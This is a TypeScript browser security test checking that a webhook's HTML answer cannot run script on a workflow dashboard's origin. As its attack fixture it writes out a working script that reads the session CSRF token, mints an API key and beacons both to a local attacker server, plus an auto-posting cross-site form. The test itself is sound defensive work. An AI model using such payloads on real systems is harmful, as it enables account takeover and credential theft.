// A tenant's webhook answer cannot act on the dashboard's origin. The attack: a page on another site
// auto-posts a form to a webhook whose Response block answers HTML with a script; a signed-in user who opens
// that page lands on the answer, on Weft's origin. The script would read the CSRF token from the session
// route and mint an API key in the user's workspace. It must not run, and the answer must set no cookie.
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { launchBrowser, newPage, shot, signInWithApi, startApp, type Browser, type E2eApp } from './support/index.js';

let app: E2eApp;
let browser: Browser;
let attacker: http.Server;
let attackerUrl = '';
/** Requests the script managed to send to the attacker's site. */
const stolen: string[] = [];

// One line and no double quotes: the answer is the JSON encoding of this string, as an attacker would write it.
const payload = (beacon: string) => `<!doctype html><title>answer</title><script>
document.title = 'script ran';
new Image().src = '${beacon}/stolen?step=start';
fetch('/api/v1/auth/session').then((r) => r.json()).then((s) => {
  new Image().src = '${beacon}/stolen?csrf=' + encodeURIComponent(s.csrfToken);
  return fetch('/api/v1/keys', { method: 'POST', headers: { 'content-type': 'application/json', 'x-csrf-token': s.csrfToken },
    body: JSON.stringify({ workspaceId: s.workspaces[0].id, name: 'planted by attacker', type: 'workspace' }) });
}).then((r) => r.text()).then((t) => { new Image().src = '${beacon}/stolen?key=' + encodeURIComponent(t); });
</script>`.replace(/\n/g, ' ');

beforeAll(async () => {
  attacker = http.createServer((req, res) => {
    if (req.url?.startsWith('/stolen')) stolen.push(req.url);
    // The attacker's page: a form that posts itself to the webhook (at the path in `?to=`) as soon as it loads.
    const to = new URL(req.url ?? '/', 'http://x').searchParams.get('to') ?? '/api/webhooks/trigger/attack';
    res.setHeader('content-type', 'text/html');
    res.end(`<!doctype html><form id="f" method="POST" action="${app.url}${to}" enctype="text/plain">
      <input name='{"a":"' value='1"}'></form><script>document.getElementById('f').submit()</script>`);
  });
  await new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', resolve));
  attackerUrl = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}`;

  app = await startApp();
  browser = await launchBrowser();
  const definition = {
    blocks: [
      { id: 'hook', type: 'webhook', name: 'Webhook', config: { path: 'attack', responseMode: 'result' } },
      { id: 'reply', type: 'response', name: 'Reply', config: { status: 200, data: payload(attackerUrl), headers: { 'Content-Type': 'text/html' } } },
    ],
    edges: [{ from: 'hook', to: 'reply' }],
  };
  const created = await app.api('POST', '/api/v1/workflows', { workspaceId: app.workspaceId, name: 'Attack', definition });
  expect(created.status, JSON.stringify(created.body)).toBe(201);
  expect((await app.api('POST', `/api/v1/workflows/${created.body.data.workflow.id}/deploy`)).status).toBe(200);
});

afterAll(async () => {
  await browser?.close();
  await app?.stop();
  await new Promise((resolve) => attacker?.close(resolve));
});

describe('a webhook answer opened by a signed-in user', () => {
  // The second path is the first percent-encoded: the router takes it to the same webhook, and the answer's
  // policy once went by the raw URL (a security audit ran the script there).
  it.each(['/api/webhooks/trigger/attack', '/%61pi/webhooks/trigger/attack'])('at %s runs no script on the dashboard\'s origin, mints no key and sets no cookie', async (path) => {
    const page = await newPage(browser, app);
    await signInWithApi(page, app);
    const cookiesBefore = await page.context().cookies(app.url);
    const keysBefore = (await app.api('GET', `/api/v1/keys?workspaceId=${app.workspaceId}`)).body.data.keys.length;

    const answer = page.waitForResponse((r) => r.url().endsWith(path));
    await page.goto(`${attackerUrl}/?to=${encodeURIComponent(path)}`);
    const res = await answer;
    expect(res.status()).toBe(200);
    await page.waitForURL((u) => u.pathname === path);
    await page.waitForLoadState('load');
    // Give a script that did run the time to reach the attacker (it would take milliseconds).
    await page.waitForTimeout(1_000);
    if (path.startsWith('/api/')) await shot(page, 'webhook-answer');

    expect(await page.title()).not.toBe('script ran');
    expect(stolen).toEqual([]);
    const keysAfter = (await app.api('GET', `/api/v1/keys?workspaceId=${app.workspaceId}`)).body.data.keys.length;
    expect(keysAfter).toBe(keysBefore);
    expect(await page.context().cookies(app.url)).toEqual(cookiesBefore);
    expect(res.headers()['content-security-policy']).toBe("default-src 'none'; sandbox");
    expect(res.headers()['x-content-type-options']).toBe('nosniff');
  });
});
